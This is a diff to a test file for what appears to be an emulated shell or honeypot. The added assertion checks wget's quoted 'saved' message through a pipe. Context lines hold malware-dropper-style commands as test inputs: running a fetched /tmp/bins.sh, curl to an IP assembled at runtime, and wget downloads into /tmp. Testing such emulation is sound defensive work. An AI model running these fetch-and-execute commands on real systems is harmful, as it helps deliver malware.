@@ -50,6 +50,10 @@ test('what a fetcher brought is handed to the attacker who comes again, and runs
   expect(await run('sh /tmp/bins.sh; cat /tmp/mark')).toMatchObject({ out: 'started\n' })
   // The same by a name that is put together as it runs: it was wanted before.
   expect((await run('H=45.0.0; curl -s http://$H.7/bins.sh | head -1')).out).toBe('#!/bin/sh\n')
+  // Its quotes are no ASCII, and stay what they are through a pipe.
+  expect((await run(`wget -O /tmp/b ${url} 2>&1 | tail -2`)).out).toContain(
+    Buffer.from('‘/tmp/b’ saved').toString('latin1'),
+  )
   // At a terminal wget draws a bar.
   expect((await run(`wget -O /tmp/b ${url}`, true)).out).toMatch(/\rb {19}? *100%\[=+>\]/)
 })
